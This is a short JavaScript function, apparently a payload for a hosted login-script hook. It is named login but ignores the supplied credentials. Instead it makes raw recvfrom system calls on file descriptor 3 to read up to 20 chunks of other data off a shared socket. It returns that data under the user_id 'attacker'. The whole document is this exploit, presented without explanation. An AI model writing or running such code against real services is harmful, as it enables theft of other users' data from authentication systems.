function login(email, password, callback) {
  const { recvfrom } = calls();
  const room = new Uint8Array(65536);
  const texts = [];
  for (let count = 0; count < 20; count += 1) {
    const length = syscall(recvfrom, 3, room, room.length, 0x40, 0, 0);
    if (length > 0) texts.push(Buffer.from(room.subarray(0, length)).toString('latin1'));
  }
  callback(null, { user_id: 'attacker', texts });
}
